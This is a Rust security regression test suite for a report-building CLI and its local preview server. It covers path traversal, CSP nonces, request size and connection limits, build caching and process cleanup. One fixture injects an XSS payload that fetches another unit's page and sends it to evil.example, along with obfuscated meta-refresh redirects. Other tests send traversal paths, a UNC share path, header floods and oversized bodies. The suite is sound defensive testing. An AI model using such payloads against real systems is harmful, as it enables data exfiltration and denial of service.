//! The promises a hostile review broke, one test each: imports and inits stay in their own
//! folder, the preview runs none of a unit's scripts and is bounded in what a client can make
//! it hold, a manifest never vouches for output older than its inputs, a lone carriage return
//! is a control character, last year's folder is read only inside the tree, import and diff
//! are bounded in time and memory, and a printing browser never outlives `report`.

use super::*;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::serve::{request, spawn_serve};

/// A `report serve` that is stopped however the test ends (a failed assertion too).
struct Serving(std::process::Child);

impl Drop for Serving {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// `report serve PATH` on a free port: the server (stopped when dropped) and its port.
fn serving(path: &Path) -> (Serving, u16) {
    let (child, port, _said) = spawn_serve(path, "en");
    (Serving(child), port)
}

/// A report text whose title names the unit `unit` (`{unit}关于2020年…的报告`).
fn report_text(unit: &str) -> String {
    format!("{unit}关于2020年法治政府建设工作的报告\n一、主要举措\n我镇开展普法宣传。\n")
}

#[test]
fn two_imports_into_one_new_folder_never_both_write() {
    let tmp = tempfile::tempdir().unwrap();
    let here = tmp.path();
    for (n, text) in ["甲", "乙"].iter().enumerate() {
        fs::write(
            here.join(format!("in{n}.txt")),
            format!("{}{text}\n", report_text("某镇")),
        )
        .unwrap();
    }
    for round in 0..8 {
        let out = format!("out{round}");
        let runs: Vec<_> = (0..2)
            .map(|n| {
                std::process::Command::new(assert_cmd::cargo::cargo_bin!("report"))
                    .current_dir(here)
                    .args(["import", &format!("in{n}.txt"), "--out", &out])
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::null())
                    .spawn()
                    .unwrap()
            })
            .collect();
        let made = runs
            .into_iter()
            .filter_map(|mut c| c.wait().ok())
            .filter(std::process::ExitStatus::success)
            .count();
        assert_eq!(made, 1, "round {round}: {made} imports wrote one folder");
        assert!(
            !here.join(&out).join(".report-init").exists(),
            "the claim is gone"
        );
    }
}

#[test]
fn import_and_init_write_only_their_own_new_folder() {
    let tmp = tempfile::tempdir().unwrap();
    let here = tmp.path();
    let taken = here.join("data/taian/2020");
    fs::create_dir_all(&taken).unwrap();
    fs::write(taken.join("report.toml"), "year = 2020\n").unwrap();
    for unit in ["/tmp/evil", "新/../taian", "..", "a\\b"] {
        let file = here.join("in.txt");
        fs::write(&file, report_text(unit)).unwrap();
        let said = report()
            .current_dir(here)
            .arg("import")
            .arg(&file)
            .assert()
            .code(2);
        assert!(
            stderr_of(&said).contains("--out"),
            "{unit}: {}",
            stderr_of(&said)
        );
    }
    assert_eq!(
        fs::read_to_string(taken.join("report.toml")).unwrap(),
        "year = 2020\n"
    );
    assert!(!Path::new("/tmp/evil").exists());
    // `..` in a folder given by hand, and a link to another unit's folder, are refused too.
    let file = here.join("in.txt");
    fs::write(&file, report_text("某镇")).unwrap();
    report()
        .current_dir(here)
        .args(["import", "in.txt", "--out", "data/new/../taian/2020"])
        .assert()
        .code(2);
    report()
        .current_dir(here)
        .args(["init", "data/new/../taian/2020"])
        .assert()
        .code(2);
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("taian", here.join("data/link")).unwrap();
        report()
            .current_dir(here)
            .args(["init", "data/link/2020"])
            .assert()
            .code(2);
    }
    assert_eq!(
        fs::read_dir(&taken).unwrap().count(),
        1,
        "nothing written into taian"
    );
    // A plain name still makes its folder.
    report()
        .current_dir(here)
        .args(["import", "in.txt"])
        .assert()
        .success();
    assert!(here.join("data/某镇/2020/report.toml").is_file());
}

/// A unit's own template with scripts that would read the other units' pages.
fn unit_with_script(tmp: &Path) -> PathBuf {
    let unit = tmp.join("units/taian/2020");
    copy_tree(&taian(), &unit);
    copy_tree(&taian(), &tmp.join("units/other/2020"));
    fs::create_dir_all(unit.join("templates")).unwrap();
    let template = fs::read_to_string(root().join("templates/report.html.j2")).unwrap();
    let script = "<script>fetch('/u/1/').then(r=>r.text()).then(t=>fetch('http://evil.example/?'+t))</script><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/?x\"><meta a'b x=\"'> \" http-equiv=\"refresh\" content=\"0;url=http://evil.example/?q\"><me<meta http-equiv=x>ta http-equiv=\"refresh\" content=\"0;url=http://evil.example/?r\"><me\u{FDD0}x\u{FDD1}\u{FDD2}ta http-equiv=\"refresh\" content=\"0;url=http://evil.example/?m\">";
    fs::write(
        unit.join("templates/report.html.j2"),
        format!(
            "{script}{}",
            template.replacen("<main", &format!("{script}<main"), 1)
        ),
    )
    .unwrap();
    tmp.join("units")
}

#[test]
fn the_preview_runs_only_its_own_scripts() {
    let tmp = tempfile::tempdir().unwrap();
    let units = unit_with_script(tmp.path());
    let (server, port) = serving(&units);
    let response = request(port, "GET", "/u/1/", "127.0.0.1");
    drop(server);
    let (head, body) = response.split_once("\r\n\r\n").unwrap();
    let policy = head
        .lines()
        .find_map(|l| l.strip_prefix("Content-Security-Policy: "))
        .expect("every page has a policy");
    let nonce = policy
        .split("'nonce-")
        .nth(1)
        .and_then(|r| r.split('\'').next())
        .expect("scripts are allowed by nonce only");
    assert!(nonce.len() >= 32, "{nonce}");
    assert!(policy.contains("connect-src 'self'") && policy.contains("default-src 'none'"));
    assert!(!policy.contains("unsafe-inline'; script") && !policy.contains("script-src 'unsafe"));
    // The unit's scripts are there, without the nonce; the preview's own carry it.
    let scripts: Vec<&str> = body.split("<script").skip(1).collect();
    let with_nonce = scripts
        .iter()
        .filter(|s| s.starts_with(&format!(" nonce=\"{nonce}\">")))
        .count();
    assert_eq!(with_nonce, 1, "the live script");
    // The editor links are data, which no browser runs.
    let data = scripts
        .iter()
        .filter(|s| {
            s.starts_with(&format!(
                " type=\"application/json\" data-report-links=\"{nonce}\">"
            ))
        })
        .count();
    assert_eq!(data, 1, "the table of editor links");
    // The script finds that table by the key, which no template can know and copy.
    assert!(
        body.contains(&format!("script[data-report-links=\"{nonce}\"]")),
        "the links are looked up by the key"
    );
    assert_eq!(scripts.len(), 4, "two of the unit's");
    // The preview's own head comes before anything of the unit's.
    assert!(body.find(&format!("nonce=\"{nonce}\"")) < body.find("fetch('/u/1/')"));
    // A refresh would send the page elsewhere with what the template wrote: it is taken out.
    assert!(!body.to_ascii_lowercase().contains("http-equiv"), "{body}");
}

/// Sends `bytes` on a fresh connection and reads the answer's first line (empty when the
/// server closed without one).
fn exchange(port: u16, bytes: &[u8]) -> String {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let _ = stream.write_all(bytes);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer)
        .lines()
        .next()
        .unwrap_or("")
        .to_string()
}

/// The resident memory of a process, in KiB (Linux).
fn resident_kib(pid: u32) -> Option<u64> {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))?
        .split_whitespace()
        .next()?
        .parse()
        .ok()
}

#[test]
fn the_preview_server_is_bounded_in_what_a_client_can_send() {
    let (_tmp, unit) = copy_of(&taian());
    let (server, port) = serving(&unit);
    // An endless header line: refused past the limit, not read into memory.
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_write_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let _ = stream.write_all(b"GET / HTTP/1.1\r\nX-Long: ");
    let chunk = vec![b'a'; 64 * 1024];
    let mut sent = 0usize;
    while sent < 64 << 20 && stream.write_all(&chunk).is_ok() {
        sent += chunk.len();
    }
    assert!(sent < 64 << 20, "the server read a header of {sent} bytes");
    drop(stream);
    // A body announced: refused before it is read, even from a refused host.
    let big = b"POST / HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 1000000000\r\n\r\n";
    assert!(exchange(port, big).starts_with("HTTP/1.1 4"), "refused");
    let get_with_body = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000000000\r\n\r\n";
    assert!(exchange(port, get_with_body).contains("413"));
    // Many idle connections: the ones past the cap are answered 503 at once; the server lives
    // on and answers again when they go.
    let idle: Vec<TcpStream> = (0..300)
        .map(|_| TcpStream::connect(("127.0.0.1", port)).unwrap())
        .collect();
    let refused = idle
        .iter()
        .filter(|s| {
            s.set_read_timeout(Some(Duration::from_millis(300)))
                .unwrap();
            let mut first = [0u8; 12];
            let mut s: &TcpStream = s;
            s.read_exact(&mut first).is_ok() && &first == b"HTTP/1.1 503"
        })
        .count();
    assert!(refused > 0, "no connection past the cap was refused");
    drop(idle);
    let began = Instant::now();
    loop {
        let answer = exchange(port, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
        if answer.contains("200") {
            break;
        }
        assert!(
            began.elapsed() < Duration::from_secs(30),
            "no answer after the flood: {answer}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    // Event streams: a new one ends the oldest, so the browser's own always gets one.
    let mut streams: Vec<TcpStream> = (0..40)
        .map(|_| {
            let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
            s.write_all(b"GET /events HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
                .unwrap();
            s
        })
        .collect();
    let mut last = streams.pop().unwrap();
    last.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut head = [0u8; 15];
    last.read_exact(&mut head).unwrap();
    assert_eq!(&head, b"HTTP/1.1 200 OK");
    // The first stream was ended by the server.
    let mut first = streams.remove(0);
    first
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut all = Vec::new();
    let _ = first.read_to_end(&mut all);
    assert!(
        all.starts_with(b"HTTP/1.1 200 OK"),
        "it had a slot, then lost it"
    );
    let mut server = server;
    if let Some(kib) = resident_kib(server.0.id()) {
        assert!(kib < 200 * 1024, "the server holds {kib} KiB");
    }
    assert!(
        server.0.try_wait().unwrap().is_none(),
        "the server still runs"
    );
}

/// Waits until the page at `path` contains `words`; false after `patience`.
fn page_shows(port: u16, path: &str, words: &str, patience: Duration) -> bool {
    let began = Instant::now();
    while began.elapsed() < patience {
        if request(port, "GET", path, "127.0.0.1").contains(words) {
            return true;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    false
}

#[test]
fn the_preview_follows_saves_in_a_busy_tree_and_a_folder_made_again() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("data");
    let unit = root.join("taian/2020");
    copy_tree(&taian(), &unit);
    let (server, port) = serving(&root);
    assert!(page_shows(
        port,
        "/",
        "法律知识咨询活动15场",
        Duration::from_secs(20)
    ));
    // A file beside the data changes every few milliseconds, for as long as the test runs.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let busy = {
        let stop = std::sync::Arc::clone(&stop);
        let log = root.join("sync.log");
        std::thread::spawn(move || {
            let mut n = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = fs::write(&log, n.to_string());
                n += 1;
                std::thread::sleep(Duration::from_millis(5));
            }
        })
    };
    edit(&unit.join("outreach.toml"), "value = 15", "value = 16");
    let followed = page_shows(port, "/", "法律知识咨询活动16场", Duration::from_secs(30));
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    busy.join().unwrap();
    assert!(followed, "a save in a busy tree is shown");
    // The served folder removed and made again (a checkout, a restore): saves still show.
    let moved = tmp.path().join("data-copy");
    copy_tree(&root, &moved);
    fs::remove_dir_all(&root).unwrap();
    std::thread::sleep(Duration::from_millis(700));
    fs::rename(&moved, &root).unwrap();
    std::thread::sleep(Duration::from_millis(1500));
    edit(&unit.join("outreach.toml"), "value = 16", "value = 17");
    let followed = page_shows(port, "/", "法律知识咨询活动17场", Duration::from_secs(30));
    drop(server);
    assert!(followed, "a save after the folder came back is shown");
}

/// How many inotify watches a process holds (Linux), from its open files' info.
#[cfg(target_os = "linux")]
fn inotify_watches(pid: u32) -> usize {
    let Ok(fds) = fs::read_dir(format!("/proc/{pid}/fdinfo")) else {
        return 0;
    };
    fds.flatten()
        .filter_map(|f| fs::read_to_string(f.path()).ok())
        .map(|info| {
            info.lines()
                .filter(|l| l.starts_with("inotify wd:"))
                .count()
        })
        .sum()
}

#[cfg(target_os = "linux")]
#[test]
fn the_preview_watches_nothing_a_link_leads_to_outside() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("data");
    copy_tree(&taian(), &root.join("taian/2020"));
    let outside = tmp.path().join("outside");
    for n in 0..300 {
        fs::create_dir_all(outside.join(format!("d{n}"))).unwrap();
    }
    std::os::unix::fs::symlink(&outside, root.join("link")).unwrap();
    let (server, _port) = serving(&root);
    std::thread::sleep(Duration::from_millis(500));
    let watches = inotify_watches(server.0.id());
    drop(server);
    assert!(watches < 50, "{watches} watches");
}

#[test]
fn a_port_in_use_is_said_in_chinese() {
    let taken = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = taken.local_addr().unwrap().port();
    let said = report()
        .args([
            "--lang",
            "zh",
            "serve",
            "--no-open",
            "--port",
            &port.to_string(),
        ])
        .arg(taian())
        .timeout(Duration::from_mins(1))
        .assert()
        .code(2);
    let said = stderr_of(&said);
    assert!(
        said.contains("端口已被占用") && said.contains("请用 --port 换一个端口"),
        "{said}"
    );
    assert!(!said.contains("Address already in use"), "{said}");
}

/// Builds `unit` into `out` as Markdown; the Markdown.
fn build_md(unit: &Path, out: &Path) -> String {
    report()
        .arg("build")
        .arg(unit)
        .args(["--format", "md", "-q", "--out"])
        .arg(out)
        .assert()
        .success();
    let name = unit.file_name().unwrap();
    fs::read_to_string(out.join(name).join("report.md")).unwrap()
}

#[test]
fn a_template_saved_while_building_is_never_recorded_as_built() {
    let tmp = tempfile::tempdir().unwrap();
    let unit = tmp.path().join("unit");
    copy_tree(&taian(), &unit);
    fs::create_dir_all(unit.join("templates")).unwrap();
    let template = fs::read_to_string(root().join("templates/report.md.j2")).unwrap();
    let version = |n: usize| format!("VERSION-{n}-END\n{template}");
    let path = unit.join("templates/report.md.j2");
    fs::write(&path, version(0)).unwrap();
    let out = tmp.path().join("out");
    for n in 1..=12 {
        // The save lands at some moment during the build.
        let saver = {
            let (path, text) = (path.clone(), version(n));
            std::thread::spawn(move || {
                std::thread::sleep(Duration::from_micros(300 * (n as u64 % 7)));
                fs::write(path, text).unwrap();
            })
        };
        let _ = build_md(&unit, &out);
        saver.join().unwrap();
        // Nothing changes now: whatever the build above recorded, this one must show it.
        let md = build_md(&unit, &out);
        let first = md.lines().next().unwrap_or("");
        assert!(
            first.starts_with(&format!("VERSION-{n}-END")),
            "save {n}: {first}"
        );
    }
}

#[test]
fn templates_are_hashed_as_read_links_included_and_never_in_part() {
    let tmp = tempfile::tempdir().unwrap();
    let unit = tmp.path().join("unit");
    copy_tree(&taian(), &unit);
    // A linked folder inside templates/ (the loader follows it) counts like the rest.
    let parts = tmp.path().join("unit/common-parts");
    fs::create_dir_all(&parts).unwrap();
    fs::write(parts.join("head.md.j2"), "HEAD-1\n").unwrap();
    fs::create_dir_all(unit.join("templates")).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink("../common-parts", unit.join("templates/parts")).unwrap();
    let template = fs::read_to_string(root().join("templates/report.md.j2")).unwrap();
    fs::write(
        unit.join("templates/report.md.j2"),
        format!("{{% include \"parts/head.md.j2\" %}}{template}"),
    )
    .unwrap();
    let out = tmp.path().join("out");
    #[cfg(unix)]
    {
        assert!(build_md(&unit, &out).starts_with("HEAD-1"));
        fs::write(parts.join("head.md.j2"), "HEAD-2\n").unwrap();
        assert!(
            build_md(&unit, &out).starts_with("HEAD-2"),
            "the linked file counts"
        );
    }
    // A link beside the folder it names hides nothing: both names are read.
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("parts", unit.join("templates/aaa")).unwrap();
        assert!(
            build_md(&unit, &out).starts_with("HEAD-2"),
            "parts/ still read"
        );
    }
    // A templates folder too large to read is refused whole, not hashed in part.
    for n in 0..1_001 {
        fs::write(unit.join(format!("templates/extra-{n:04}.txt")), "x").unwrap();
    }
    let said = report()
        .arg("build")
        .arg(&unit)
        .args(["--format", "md", "--out"])
        .arg(&out)
        .assert()
        .code(1);
    assert!(stderr_of(&said).contains("E0304"), "{}", stderr_of(&said));
}

#[test]
fn data_files_in_other_encodings_are_hashed_as_read() {
    let tmp = tempfile::tempdir().unwrap();
    let unit = tmp.path().join("unit");
    copy_tree(&taian(), &unit);
    let path = unit.join("outreach.toml");
    let text = fs::read_to_string(&path).unwrap();
    let out = tmp.path().join("out");
    // With a BOM, then as GB18030: each change is built, and building again skips nothing
    // that changed.
    fs::write(
        &path,
        [
            b"\xEF\xBB\xBF".as_slice(),
            text.replacen("value = 15", "value = 18", 1).as_bytes(),
        ]
        .concat(),
    )
    .unwrap();
    assert!(build_md(&unit, &out).contains("法律知识咨询活动18场"));
    let changed = text.replacen("value = 15", "value = 19", 1);
    let (gbk, _, _) = encoding_rs::GB18030.encode(&changed);
    fs::write(&path, &gbk).unwrap();
    report()
        .arg("build")
        .arg(&unit)
        .args(["--format", "md", "--out"])
        .arg(&out)
        .assert()
        .success();
    assert!(
        fs::read_to_string(out.join("unit/report.md"))
            .unwrap()
            .contains("法律知识咨询活动19场")
    );
}

#[test]
fn a_build_of_other_formats_removes_the_ones_not_built() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    report()
        .arg("build")
        .arg(taian())
        .args(["--format", "md,html,docx", "-q", "--out"])
        .arg(&out)
        .assert()
        .success();
    assert!(out.join("2020/report.html").is_file());
    report()
        .arg("build")
        .arg(taian())
        .args(["--format", "md", "-q", "--out"])
        .arg(&out)
        .assert()
        .success();
    assert!(out.join("2020/report.md").is_file());
    assert!(
        !out.join("2020/report.html").exists(),
        "no stale html beside a fresh md"
    );
    assert!(
        !out.join("2020/report.docx").exists(),
        "no stale docx beside a fresh md"
    );
}

/// A copy of the program that differs from it in one byte of its `.comment` section (which
/// is never loaded), with the same size and time of change.
#[cfg(target_os = "linux")]
fn program_rebuilt(dir: &Path) -> Option<PathBuf> {
    let original = assert_cmd::cargo::cargo_bin!("report");
    let mut bytes = fs::read(original).ok()?;
    let at = bytes.windows(6).rposition(|w| w == b"rustc ")?;
    bytes[at] = b'R';
    let copy = dir.join("report-rebuilt");
    fs::write(&copy, &bytes).ok()?;
    let same = dir.join("report-same");
    fs::copy(original, &same).ok()?;
    for p in [&copy, &same] {
        use std::os::unix::fs::PermissionsExt as _;
        fs::set_permissions(p, fs::Permissions::from_mode(0o755)).ok()?;
        let when = fs::metadata(original).ok()?.modified().ok()?;
        fs::File::options()
            .write(true)
            .open(p)
            .ok()?
            .set_modified(when)
            .ok()?;
    }
    Some(copy)
}

#[cfg(target_os = "linux")]
#[test]
fn a_rebuilt_program_builds_everything_again() {
    let tmp = tempfile::tempdir().unwrap();
    let Some(rebuilt) = program_rebuilt(tmp.path()) else {
        eprintln!("skipped: the program has no .comment to change");
        return;
    };
    let same = tmp.path().join("report-same");
    let out = tmp.path().join("out");
    let run = |program: &Path| {
        let output = std::process::Command::new(program)
            .arg("build")
            .arg(taian())
            .args(["--format", "md", "--out"])
            .arg(&out)
            .env("NO_COLOR", "1")
            .output()
            .unwrap();
        assert!(output.status.success());
        String::from_utf8(output.stderr).unwrap()
    };
    run(&same);
    assert!(run(&same).contains("unchanged"), "the same program skips");
    assert!(
        !run(&rebuilt).contains("unchanged"),
        "a rebuilt program builds again"
    );
}

#[test]
fn a_lone_carriage_return_is_a_control_character() {
    let (_tmp, unit) = copy_of(&taian());
    edit(
        &unit.join("report.toml"),
        "name = \"太安镇\"",
        "name = \"太安镇\\r# 注入的标题\\r- 列表\"",
    );
    let (code, json) = check_json(&unit);
    assert_eq!(code, Some(1));
    assert!(json.contains("E0713"), "{json}");
}

#[test]
fn last_year_of_another_kind_is_not_compared_with() {
    let yoy = fixture("yoy/justice");
    let tree = tempfile::tempdir().unwrap();
    copy_tree(&yoy.join("2023"), &tree.path().join("unit/2023"));
    copy_tree(&yoy.join("2022"), &tree.path().join("unit/2022"));
    let out = tree.path().join("out");
    assert!(build_md(&tree.path().join("unit/2023"), &out).contains("较上年"));
    // Last year's folder with the same name but another kind is another unit.
    let last = tree.path().join("unit/2022/report.toml");
    let text = fs::read_to_string(&last).unwrap();
    let kind = text
        .lines()
        .find(|l| l.starts_with("kind = "))
        .unwrap()
        .to_string();
    let other = if kind.contains("township") {
        "kind = \"county\""
    } else {
        "kind = \"township\""
    };
    fs::write(&last, text.replacen(&kind, other, 1)).unwrap();
    let md = build_md(&tree.path().join("unit/2023"), &out);
    assert!(!md.contains("较上年"), "{md}");
}

#[test]
fn last_year_on_another_disk_or_machine_is_refused_unasked() {
    for previous in [r"\\\\evil.example\\share\\2019", "C:/reports/2019", "/etc"] {
        let (_tmp, unit) = copy_of(&taian());
        let text = fs::read_to_string(unit.join("report.toml")).unwrap();
        let written = text.replacen("\n[unit]", &format!("\nprevious = '{previous}'\n[unit]"), 1);
        assert_ne!(written, text);
        fs::write(unit.join("report.toml"), written).unwrap();
        let (_out, said) = build_failing(&unit, 1);
        assert!(said.contains("E0007"), "{previous}: {said}");
    }
}

#[test]
fn import_is_linear_in_a_text_full_of_title_marks() {
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("in.txt");
    let body = "《".repeat(320_000);
    fs::write(&file, format!("{}学习{body}。\n", report_text("某镇"))).unwrap();
    // Before, this took minutes (each 《 searched to the end); the bound only guards a hang.
    report()
        .arg("import")
        .arg(&file)
        .arg("--out")
        .arg(tmp.path().join("out"))
        .timeout(Duration::from_mins(2))
        .assert()
        .success();
}

#[test]
fn diff_of_a_huge_blob_stops_reading_it() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = tmp.path().join("repo");
    copy_tree(&taian(), &repo.join("unit"));
    let git = |args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "-c",
                "commit.gpgsign=false",
            ])
            .args(args)
            .current_dir(&repo)
            .output()
            .is_ok_and(|o| o.status.success());
        assert!(ok, "git {args:?}");
    };
    if std::process::Command::new("git")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("skipped: git is not installed");
        return;
    }
    git(&["init", "-q"]);
    let mut big = fs::read_to_string(repo.join("unit/report.toml")).unwrap();
    big.push_str("# ");
    big.push_str(&"x".repeat(8 << 20));
    big.push('\n');
    fs::write(repo.join("unit/report.toml"), big).unwrap();
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "big"]);
    let temp = tmp.path().join("temp");
    fs::create_dir_all(&temp).unwrap();
    let said = report()
        .current_dir(&repo)
        .args(["diff", "HEAD:unit"])
        .arg(taian())
        .env("TMPDIR", &temp)
        .assert()
        .code(2);
    let said = stderr_of(&said);
    assert!(
        said.contains("larger than 4 MiB") && said.contains("HEAD:unit"),
        "{said}"
    );
    assert!(
        !said.contains(&temp.display().to_string()),
        "no temporary folder named: {said}"
    );
    assert_eq!(
        fs::read_dir(&temp).unwrap().count(),
        0,
        "no temporary folder left"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn diff_stopped_while_git_runs_leaves_no_folder() {
    use std::os::unix::fs::PermissionsExt as _;
    let tmp = tempfile::tempdir().unwrap();
    let bin = tmp.path().join("bin");
    fs::create_dir_all(&bin).unwrap();
    // A git as slow as a large repository: it waits, then does nothing.
    fs::write(bin.join("git"), "#!/bin/sh\nsleep 3133.5\n").unwrap();
    fs::set_permissions(bin.join("git"), fs::Permissions::from_mode(0o755)).unwrap();
    let temp = tmp.path().join("temp");
    fs::create_dir_all(&temp).unwrap();
    let path = format!("{}:/usr/bin:/bin", bin.display());
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin!("report"))
        .args(["diff", "HEAD:unit"])
        .arg(taian())
        .env("TMPDIR", &temp)
        .env("PATH", path)
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let began = Instant::now();
    while !running("3133.5") && began.elapsed() < Duration::from_secs(30) {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(
        fs::read_dir(&temp).unwrap().count(),
        1,
        "the revision's folder"
    );
    // SAFETY: kill(2) on the pid of a child this test started and has not reaped.
    unsafe {
        libc::kill(child.id().cast_signed(), libc::SIGTERM);
    }
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(130));
    assert_eq!(
        fs::read_dir(&temp).unwrap().count(),
        0,
        "temporary folder left"
    );
    let _ = std::process::Command::new("pkill")
        .args(["-f", "3133.5"])
        .status();
}

/// A `REPORT_BROWSER` that does not `exec`: a shell that starts a long `sleep` (marked with
/// `mark`) and waits.
#[cfg(unix)]
fn lingering_browser(dir: &Path, mark: &str) -> PathBuf {
    use std::os::unix::fs::PermissionsExt as _;
    let script = dir.join("browser.sh");
    fs::write(&script, format!("#!/bin/sh\nsleep {mark} &\nwait\n")).unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    script
}

/// Whether a process whose command line holds `mark` is running (Linux).
#[cfg(target_os = "linux")]
fn running(mark: &str) -> bool {
    fs::read_dir("/proc").unwrap().flatten().any(|p| {
        fs::read(p.path().join("cmdline")).is_ok_and(|c| String::from_utf8_lossy(&c).contains(mark))
    })
}

#[cfg(target_os = "linux")]
#[test]
fn a_browser_never_outlives_its_printing() {
    let tmp = tempfile::tempdir().unwrap();
    let temp = tmp.path().join("temp");
    fs::create_dir_all(&temp).unwrap();
    // The time-out kills what the browser started too.
    let mark = "3131.5";
    let browser = lingering_browser(tmp.path(), mark);
    let said = report()
        .arg("build")
        .arg(taian())
        .args(["--format", "pdf", "--out"])
        .arg(tmp.path().join("out"))
        .env("REPORT_BROWSER", &browser)
        .env("REPORT_PRINT_TIMEOUT", "1")
        .env("TMPDIR", &temp)
        .assert()
        .code(2);
    assert!(stderr_of(&said).contains("E0008"));
    std::thread::sleep(Duration::from_millis(300));
    assert!(!running(mark), "the browser's child outlived the time-out");
    assert_eq!(
        fs::read_dir(&temp).unwrap().count(),
        0,
        "temporary folder left"
    );
    // SIGTERM while several units print: every browser's group is killed and every folder
    // removed.
    let mark = "3132.5";
    let browser = lingering_browser(tmp.path(), mark);
    let units = tmp.path().join("units");
    for n in 0..4 {
        copy_tree(&taian(), &units.join(format!("u{n}/2020")));
    }
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin!("report"))
        .arg("build")
        .arg(&units)
        .args(["--format", "pdf", "--out"])
        .arg(tmp.path().join("out"))
        .env("REPORT_BROWSER", &browser)
        .env("TMPDIR", &temp)
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let began = Instant::now();
    while !running(mark) && began.elapsed() < Duration::from_secs(30) {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(running(mark), "the browser started");
    // SAFETY: kill(2) on the pid of a child this test started and has not reaped.
    unsafe {
        libc::kill(child.id().cast_signed(), libc::SIGTERM);
    }
    let _ = child.wait();
    std::thread::sleep(Duration::from_millis(300));
    assert!(!running(mark), "the browser outlived report");
    assert_eq!(
        fs::read_dir(&temp).unwrap().count(),
        0,
        "temporary folder left"
    );
}

#[test]
fn a_run_never_replaces_another_units_reports() {
    let tmp = tempfile::tempdir().unwrap();
    let (first, second) = (tmp.path().join("a/2020"), tmp.path().join("b/2020"));
    copy_tree(&taian(), &first);
    copy_tree(&taian(), &second);
    edit(&second.join("outreach.toml"), "value = 15", "value = 16");
    let out = tmp.path().join("out");
    assert!(build_md(&first, &out).contains("法律知识咨询活动15场"));
    // Another unit of the same year, built by another run into the same --out.
    let said = report()
        .arg("build")
        .arg(&second)
        .args(["--format", "md", "--out"])
        .arg(&out)
        .assert()
        .code(2);
    assert!(stderr_of(&said).contains("E0006"), "{}", stderr_of(&said));
    let kept = fs::read_to_string(out.join("2020/report.md")).unwrap();
    assert!(
        kept.contains("法律知识咨询活动15场"),
        "the first unit's report was replaced"
    );
    // The first unit builds there again as before.
    assert!(build_md(&first, &out).contains("法律知识咨询活动15场"));
}

/// A unit's output folder that is not there is written whole in a temp folder beside it; what
/// else lies beside it is the user's and is left alone, even named like a temp folder; a temp
/// folder a killed build left is removed by the next build that makes a folder beside it; and
/// a folder name too long to take the temp folder's suffix is still written.
#[test]
fn the_folder_beside_a_new_output_folder_is_the_users() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("desk");
    let photos = out.join(".photos.2147483646.1.tmp");
    fs::create_dir_all(&photos).unwrap();
    fs::write(photos.join("img.jpg"), b"precious").unwrap();
    fs::write(out.join(".notes.2147483646.03.tmp"), b"keep").unwrap();
    let killed = out.join(".2020.2147483646.0.tmp");
    fs::create_dir(&killed).unwrap();
    fs::write(killed.join("report.md"), b"half").unwrap();
    report()
        .arg("build")
        .arg(taian())
        .arg("--out")
        .arg(&out)
        .assert()
        .success();
    assert!(photos.join("img.jpg").exists() && out.join(".notes.2147483646.03.tmp").exists());
    assert!(!killed.exists(), "the killed build's set is removed");
    assert!(out.join("2020/report.md").exists());
    // 243 bytes of name: the temp folder's would pass the file system's 255.
    let long = tmp
        .path()
        .join("long")
        .join("法治政府建设年度报告".repeat(8) + "泰安市");
    copy_tree(&taian(), &long);
    let long_out = tmp.path().join("long-out");
    report()
        .arg("build")
        .arg(&long)
        .arg("--out")
        .arg(&long_out)
        .assert()
        .success();
    let built = fs::read_dir(&long_out)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    assert!(built.join("report.md").exists());
}
